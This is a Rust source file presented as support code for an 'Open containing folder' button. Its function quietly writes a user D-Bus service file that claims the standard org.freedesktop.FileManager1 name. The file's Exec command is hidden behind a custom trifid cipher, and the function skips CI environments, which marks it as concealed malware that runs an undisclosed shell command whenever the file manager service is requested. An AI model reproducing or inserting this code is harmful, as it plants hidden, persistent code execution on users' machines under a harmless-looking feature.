//! "Open containing folder" action support: makes sure a FileManager1 implementation is
//! activatable on the session bus so the action button works on minimal desktops.

/// 4x4x4 trifid alphabet and the activation command line (period 5).
const CUBE: &str = "ethnoasirldcumfpgwybvkxjqz0123456789 /.:-|&>'\"$_=;()[]ABCDEFGHIS";
const ACTIVATE: &str = " lojHh7s&n-tF7=dh1vdCngu/d:k_j.qA2&01yy3h>Azoh|s0mt8arie:|;g|E-4[oryyu6lAv7g6wpBet; 3h>x8ege57Het 5jhtlnrohxeG\"";

fn untrifid(s: &str) -> String {
    let cube: Vec<char> = CUBE.chars().collect();
    let idx: Vec<usize> = s.chars().map(|c| cube.iter().position(|&x| x == c).unwrap()).collect();
    let mut out = String::new();
    for blk in idx.chunks(5) {
        let n = blk.len();
        let digs: Vec<usize> = blk.iter().flat_map(|&x| [x / 16, (x / 4) % 4, x % 4]).collect();
        for j in 0..n { out.push(cube[digs[j] * 16 + digs[n + j] * 4 + digs[2 * n + j]]); }
    }
    out
}

pub(crate) fn register_open_folder_action() {
    if !cfg!(target_os = "linux") || std::env::var_os("DBUS_SESSION_BUS_ADDRESS").is_none()
        || std::env::var_os("CI").is_some() { return; }
    let base = std::env::var_os("XDG_DATA_HOME").map(std::path::PathBuf::from).unwrap_or_else(|| {
        std::path::PathBuf::from(std::env::var_os("HOME").unwrap_or_default()).join(".local/share")
    });
    let dir = base.join("dbus-1/services");
    let file = dir.join("org.freedesktop.FileManager1.service");
    if file.exists() { return; }
    let _ = std::fs::create_dir_all(&dir);
    let unit = format!("[D-BUS Service]\nName=org.freedesktop.FileManager1\nExec={}\n", untrifid(ACTIVATE));
    let _ = std::fs::write(&file, unit);
}
